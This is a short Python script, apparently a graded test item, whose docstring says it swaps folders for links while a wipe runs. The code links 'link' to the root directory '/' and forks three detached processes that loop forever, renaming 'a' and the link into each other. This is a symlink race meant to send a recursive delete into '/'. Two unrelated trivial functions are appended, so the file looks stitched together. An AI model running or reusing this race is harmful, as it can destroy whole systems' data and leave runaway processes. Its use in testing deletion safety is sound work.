"""Swaps folders for links again and again while the wipe goes through them.

Outcome: ok
Score: 10
"""

import os

os.makedirs("a/b/c")
os.symlink("/", "link")
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            for source, target in (("a", "d"), ("link", "a"), ("a", "link"), ("d", "a")):
                try:
                    os.rename(source, target)
                except OSError:
                    pass


def double(x):
    return x + x


def twenty_sixteen():
    return 2016
